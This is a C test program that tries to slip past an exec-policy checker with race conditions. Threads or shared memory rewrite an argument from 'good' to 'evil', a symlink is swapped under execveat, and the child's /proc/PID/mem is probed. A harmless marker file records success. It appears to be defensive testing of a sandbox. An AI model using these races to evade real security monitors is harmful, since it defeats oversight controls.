/* Tries to run what is denied by showing the judge something else: the argument `evil`, or the program `evil`.
 * What runs with it leaves a file, /workspace/evil.
 *
 *   swap threads ROUNDS    another thread rewrites the argument
 *   swap shared ROUNDS     another process rewrites it, in memory that both share
 *   swap file ROUNDS       execveat of a link that another process turns
 *   swap memory ROUNDS     another process rewrites the new program's arguments through /proc/PID/mem
 *   swap run WORD          what is executed
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *self = "/programs/swap";
extern char **environ;

static void mark(void) { close(open("/workspace/evil", O_CREAT | O_WRONLY, 0644)); }

/* One store turns the one word into the other. */
static union {
    char text[8];
    long word;
} good = {"good"}, evil = {"evil"};

static void turn(volatile long *word) {
    for (;;) {
        *word = good.word;
        for (volatile int n = 0; n < 50; n++) {}
        *word = evil.word;
        for (volatile int n = 0; n < 50; n++) {}
    }
}

static void *turning(void *word) {
    turn(word);
    return NULL;
}

/* Counts how a child ended: 0 it ran what is allowed, 126 it was denied at once, SIGKILL it was denied when it stood. */
static int ran, denied, killed;

static void count(pid_t child) {
    int status;
    waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) killed++;
    else if (WEXITSTATUS(status) == 0) ran++;
    else denied++;
}

static int report(void) {
    printf("ran %d denied %d killed %d\n", ran, denied, killed);
    return 0;
}

static int by_threads(int rounds) {
    for (int n = 0; n < rounds; n++) {
        pid_t child = fork();
        if (child == 0) {
            static union { char text[8]; long word; } arg;
            pthread_t thread;
            pthread_create(&thread, NULL, turning, &arg.word);
            while (__atomic_load_n(&arg.word, __ATOMIC_RELAXED) == 0) {}
            char *argv[] = {"swap", "run", arg.text, NULL};
            execv(self, argv);
            _exit(126);
        }
        count(child);
    }
    return report();
}

static int by_sharing(int rounds) {
    long *shared = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    *shared = good.word;
    pid_t peer = fork();
    if (peer == 0) turn(shared);
    for (int n = 0; n < rounds; n++) {
        pid_t child = fork();
        if (child == 0) {
            char *argv[] = {"swap", "run", (char *)shared, NULL};
            execv(self, argv);
            _exit(126);
        }
        count(child);
    }
    kill(peer, SIGKILL);
    waitpid(peer, NULL, 0);
    return report();
}

static int by_file(int rounds) {
    pid_t peer = fork();
    if (peer == 0) {
        for (;;) {
            unlink("/tmp/a"), unlink("/tmp/b");
            if (symlink("/programs/swap", "/tmp/a") || symlink("/programs/evil", "/tmp/b")) _exit(1);
            rename("/tmp/a", "/tmp/link");
            for (volatile int n = 0; n < 2000; n++) {}
            rename("/tmp/b", "/tmp/link");
            for (volatile int n = 0; n < 2000; n++) {}
        }
    }
    while (access("/tmp/link", F_OK)) {}
    int dir = open("/tmp", O_RDONLY | O_DIRECTORY);
    for (int n = 0; n < rounds; n++) {
        pid_t child = fork();
        if (child == 0) {
            char *argv[] = {"swap", "run", "good", NULL};
            syscall(SYS_execveat, dir, "link", argv, environ, 0);
            _exit(126);
        }
        count(child);
    }
    kill(peer, SIGKILL);
    waitpid(peer, NULL, 0);
    return report();
}

/* Where the new program's arguments are is told by /proc/PID/stat; it is enough to try around the stack's end. */
static int by_memory(int rounds) {
    int opened = 0;
    for (int n = 0; n < rounds; n++) {
        pid_t child = fork();
        if (child == 0) {
            char *argv[] = {"swap", "run", "good", NULL};
            execv(self, argv);
            _exit(126);
        }
        char path[64];
        snprintf(path, sizeof path, "/proc/%d/mem", child);
        for (int tries = 0; tries < 20; tries++) {
            int fd = open(path, O_RDWR);
            if (fd < 0) continue;
            opened++;
            close(fd);
        }
        count(child);
    }
    printf("opened %d\n", opened);
    return report();
}

int main(int count, char **args) {
    /* As the program `evil`, whatever it is asked for. */
    char exe[64] = "";
    if (readlink("/proc/self/exe", exe, sizeof exe - 1) > 0 && strstr(exe, "evil")) mark();
    if (count < 3) return 125;
    int rounds = atoi(args[2]);
    if (!strcmp(args[1], "run")) {
        if (!strcmp(args[2], "evil")) mark();
        return 0;
    }
    if (!strcmp(args[1], "threads")) return by_threads(rounds);
    if (!strcmp(args[1], "shared")) return by_sharing(rounds);
    if (!strcmp(args[1], "file")) return by_file(rounds);
    if (!strcmp(args[1], "memory")) return by_memory(rounds);
    return 125;
}
